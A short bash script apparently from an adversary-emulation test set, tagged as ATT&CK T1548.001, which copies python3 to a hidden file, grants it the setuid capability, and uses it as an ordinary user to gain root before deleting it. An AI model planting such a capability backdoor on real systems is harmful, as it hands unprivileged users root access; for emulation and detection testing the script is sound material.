#!/bin/bash
# technique: T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid
# tactic: privilege-escalation
# user: root
# needs: setcap python3
# does: gives an interpreter the capability to become root, and uses it
# harmless: root only in the sandbox; the copy is removed

cp /usr/bin/python3.11 /var/tmp/.py
setcap cap_setuid+ep /var/tmp/.py
su alice -s /bin/sh -c '/var/tmp/.py -S -c "import os; os.setuid(0); os.system(\"id >/dev/null\")"'
rm /var/tmp/.py
